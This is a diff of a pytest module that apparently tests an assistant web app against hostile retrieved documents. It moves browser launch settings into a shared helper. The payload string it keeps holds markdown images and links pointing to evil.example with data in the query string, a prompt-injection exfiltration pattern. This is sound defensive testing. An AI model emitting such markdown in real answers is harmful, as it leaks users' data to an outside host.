@@ -26,10 +26,10 @@ import pytest
 from assistant.config import LLMSettings, Settings, StoreSettings, UISettings
 from assistant.indexing import ingest
 from assistant.webapp import build_app
+from tests.chromium import CHROMIUM, LAUNCH_ARGS, browser_marks
 from tests.conftest import FakeEmbedder, free_port
 from tests.openai_server import FakeOpenAIServer, Reply
 
-CHROMIUM = Path("/usr/bin/chromium")
 HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
 QUESTION = "When must receipts for expense claims be submitted?"
 PAYLOAD_ANSWER = (
@@ -43,22 +43,8 @@ PAYLOAD_ANSWER = (
     "![x](http://evil.example/?q=DATA) ![a [b] c](//evil.example/?q=NESTED) "
     "[portal](http://evil.example/portal) [r]\n\n[r]: //evil.example/ref"
 )
-LAUNCH_ARGS = [
-    "--no-sandbox",
-    "--headless=new",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
-]
 
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.skipif(
-        not CHROMIUM.exists(), reason="/usr/bin/chromium is missing (apt-get install chromium)"
-    ),
-]
+pytestmark = browser_marks
 
 
 @dataclass
